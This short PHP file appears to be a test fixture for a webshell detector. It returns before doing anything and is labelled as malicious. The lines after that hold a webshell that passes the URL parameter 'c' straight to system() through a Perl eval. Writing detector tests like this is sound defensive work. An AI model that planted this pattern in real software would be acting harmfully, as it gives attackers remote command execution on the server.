<?php return; // want: malicious webshell php.command.request
$perl = new Perl();
$perl->eval("system('" . $_GET['c'] . "')");
